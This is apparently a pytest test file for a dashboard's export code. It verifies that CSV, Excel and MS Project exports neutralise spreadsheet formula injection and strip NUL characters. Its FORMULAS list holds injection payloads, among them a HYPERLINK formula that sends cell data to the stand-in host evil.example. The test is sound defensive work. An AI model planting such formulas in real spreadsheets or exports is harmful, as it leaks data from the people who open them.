"""Inert exports (#12): what a spreadsheet would evaluate is written as text, and a NUL no longer fails a file.

Titles, mitigations and worklog comments are set to what a tracker or a
form can hold: ``=HYPERLINK(…)``, ``+1+1``, ``@SUM``, ``-2+3``, a leading
tab, and a NUL. Every workbook is read back with openpyxl (no formula or
error cell, the text kept less its NUL), every CSV with the csv module
(such cells behind a single quote), the MS Project XML with its reader.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import polars as pl
from openpyxl import load_workbook

from dashboards import data, export
from dashboards.common import PageContext
from dashboards.i18n import t
from dashboards.logic import hours as hours_logic
from dashboards.logic import plan as plan_logic
from dashboards.logic import risks as risks_logic
from models.planning.mspdi import read_mspdi
from tests.dashboard_app import query_of
from tests.poison import write_published
from warehouse.db import EditChange, edits_version, read_frame, save_edits, utc_now
from warehouse.settings import Settings

FORMULAS = ['=HYPERLINK("http://evil.example/"&B2,"x")', "+1+1", "@SUM(A1)", "-2+3", "\tled by a tab"]
NUL_TITLE = "before\x00after"
TITLES = [*FORMULAS, NUL_TITLE]


def _expected(title: str, *, csv_cell: bool) -> str:
    """What an export holds for `title`: the NUL removed, and in CSV a quote before what a spreadsheet evaluates."""
    text = title.replace("\x00", "")
    return "'" + text if csv_cell and text[0] in "=+-@\t\r" else text


def _poison_titles(settings: Settings) -> None:
    """Every task title and worklog comment one of TITLES, in turn."""
    cycle = "list_value(?, ?, ?, ?, ?, ?)[(row_number() OVER (ORDER BY {key}) - 1) % 6 + 1]"
    write_published(
        settings,
        (f"UPDATE tasks SET title = m.v FROM (SELECT task_id, {cycle.format(key='task_id')} AS v FROM tasks) m "
         "WHERE tasks.task_id = m.task_id", TITLES),
        (f"UPDATE worklogs SET comment = m.v FROM (SELECT worklog_id, {cycle.format(key='worklog_id')} AS v "
         "FROM worklogs) m WHERE worklogs.worklog_id = m.worklog_id", TITLES),
    )


def _ctx(settings: Settings) -> PageContext:
    return PageContext(settings, data.snapshot_key(settings), edits_version(settings))


def _assert_no_formulas(book) -> list[str]:
    """Every cell of every sheet: no formula, no error cell; returns the text cells."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_inert_value_quotes_only_text_and_strips_what_xml_cannot_carry() -> None:
    assert [export.inert_value(title, csv=True) for title in TITLES] == [_expected(x, csv_cell=True) for x in TITLES]
    assert export.inert_value("=1+1", csv=False) == "=1+1"
    assert export.inert_value("\rx", csv=True) == "'\rx"
    assert export.inert_value("a\x01\x0b\ufffe\ud800b\tc\nd", csv=False) == "ab\tc\nd"
    assert export.inert_value(-5, csv=True) == -5 and export.inert_value(-2.5, csv=True) == -2.5
    assert export.inert_value(None, csv=True) is None


def test_risk_exports_are_text_and_numbers_stay_numbers(demo_app: Settings) -> None:
    owner = read_frame(demo_app, "SELECT min(person_id) AS p FROM people")["p"][0]
    now = utc_now()
    rows = [
        {"risk_id": f"R-I{i}", "project_key": "ERP", "title": title, "category": "technical", "probability": 3,
         "impact": 3, "score": 9, "owner_id": owner, "mitigation": "=1+1", "contingency": None, "status": "open",
         "due_date": date.today() + timedelta(days=30), "linked_task_ids": [], "created_at": now,
         "updated_at": now, "updated_by": "seed"}
        for i, title in enumerate(TITLES)
    ]
    save_edits(demo_app, [EditChange("risks", row) for row in rows], "seed")
    sheet = risks_logic.export_table(risks_logic.register(_ctx(demo_app), risks_logic.RiskFilter()), "en")
    title, mitigation, score = (t(key, "en") for key in ("common.title", "risks.field.mitigation",
                                                          "risks.field.score"))

    parsed = list(csv.DictReader(io.StringIO(risks_logic.to_csv(sheet).decode("utf-8-sig"))))
    assert sorted(row[title] for row in parsed) == sorted(_expected(x, csv_cell=True) for x in TITLES)
    assert {row[mitigation] for row in parsed} == {"'=1+1"} and {row[score] for row in parsed} == {"9"}

    book = load_workbook(io.BytesIO(risks_logic.to_excel(sheet, "Risks")))
    texts = _assert_no_formulas(book)
    assert {_expected(x, csv_cell=False) for x in TITLES} | {"=1+1"} <= set(texts)
    header = [cell.value for cell in book.active[1]]
    scores = [row[header.index(score)] for row in book.active.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in scores} == {(9, "n")}

    negative = pl.DataFrame({"name": ["-2+3"], "delta": [-5], "share": [-2.5]})
    assert risks_logic.to_csv(negative).decode("utf-8-sig").splitlines() == ["name,delta,share", "'-2+3,-5,-2.5"]
    cells = list(load_workbook(io.BytesIO(risks_logic.to_excel(negative, "x"))).active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells] == [("-2+3", "s"), (-5, "n"), (-2.5, "n")]


def test_plan_exports_are_text_and_the_nul_no_longer_fails(demo_app: Settings) -> None:
    _poison_titles(demo_app)
    names = dict(read_frame(demo_app, "SELECT task_id, title FROM tasks WHERE project_key = 'ERP'").iter_rows())

    text = plan_logic.export_bytes(demo_app, "ERP", "csv").decode("utf-8-sig")
    exported = {row["task_id"]: row["name"] for row in csv.DictReader(io.StringIO(text))}
    assert exported == {task: _expected(title, csv_cell=True) for task, title in names.items()}

    book = load_workbook(io.BytesIO(plan_logic.export_bytes(demo_app, "ERP", "xlsx")))
    _assert_no_formulas(book)
    rows = list(book.active.values)
    column = rows[0].index("name")
    assert sorted(row[column] for row in rows[1:]) == sorted(_expected(x, csv_cell=False) for x in names.values())

    read = read_mspdi(plan_logic.export_bytes(demo_app, "ERP", "xml", project_name="ERP\x00 plan"))
    assert "ERP plan" in (read.title, read.name)
    # The MSPDI reader trims names, so the tab-led one comes back without its tab.
    assert sorted(task.name for task in read.plan.tasks) == sorted(
        _expected(x, csv_cell=False).strip() for x in names.values()
    )


def test_hours_report_is_text(demo_app: Settings) -> None:
    _poison_titles(demo_app)
    month = hours_logic.report_months(query_of(demo_app))[1]
    report = hours_logic.monthly_report(query_of(demo_app), month, None)
    assert set(report.worklogs["comment"].drop_nulls()) == set(TITLES)
    assert not report.tasks.is_empty() and set(report.tasks["title"]) <= set(TITLES)
    book = load_workbook(io.BytesIO(hours_logic.report_workbook(report, "en")))
    texts = set(_assert_no_formulas(book))
    assert {_expected(x, csv_cell=False) for x in TITLES} <= texts
    hours = [row[list(hours_logic.WORKLOG_HEADERS).index("hours")] for row in book["Worklogs"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in hours} == {"n"}
